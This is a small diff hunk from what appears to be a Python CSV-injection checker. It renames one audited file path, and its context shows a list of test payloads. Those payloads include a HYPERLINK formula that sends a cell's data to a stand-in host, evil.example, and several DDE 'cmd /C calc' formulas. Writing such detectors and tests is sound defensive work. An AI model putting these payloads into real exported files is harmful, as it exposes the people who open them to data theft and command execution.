@@ -198,7 +198,7 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection
 NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-AUDITED_CSV_WRITERS = {"review_app/export.py", "digest/render.py", "pipeline/score.py"}
+AUDITED_CSV_WRITERS = {"review_app/export.py", "digest/render.py", "pipeline/csv_scoring.py"}
 
 
 def dangerous_cells(data: str) -> list[str]:
